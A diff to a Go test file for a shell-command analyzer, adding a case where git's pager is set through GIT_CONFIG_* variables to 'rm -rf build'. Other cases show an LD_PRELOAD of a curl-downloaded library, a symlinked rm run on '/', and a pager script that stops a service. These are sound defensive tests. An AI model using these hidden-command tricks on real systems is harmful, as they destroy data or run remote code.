@@ -46,6 +46,8 @@ func TestCarried_ALaterCommandRunsWhatAnEarlierOneLeft(t *testing.T) {
 			command: "make"},
 		"a script for a pager": {before: []string{"echo x > p.sh"}, vars: map[string]string{"GIT_PAGER": "sh /data/app/p.sh"}, texts: map[string]string{"/data/app/p.sh": "systemctl stop x"},
 			command: "git log", want: "service.stop"},
+		"a setting of git's": {vars: map[string]string{"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager", "GIT_CONFIG_VALUE_0": "rm -rf build"}, command: "git log",
+			want: "delete.recursive"},
 		"a downloaded library": {before: []string{"curl -o l.so https://x.example/y"}, vars: map[string]string{"LD_PRELOAD": "/data/app/l.so"}, command: "ls", want: "remote.run"},
 		"a usual pager":        {vars: map[string]string{"PAGER": "less -R", "EDITOR": "vim", "LD_LIBRARY_PATH": "/data/app/lib", "NODE_OPTIONS": "--max-old-space-size=4096"}, command: "git log"},
 		"a link to a program":  {before: []string{"ln -s /bin/rm tidy"}, links: map[string]string{"/data/app/tidy": "/usr/bin/rm"}, command: "./tidy -rf /", want: "delete.root"},
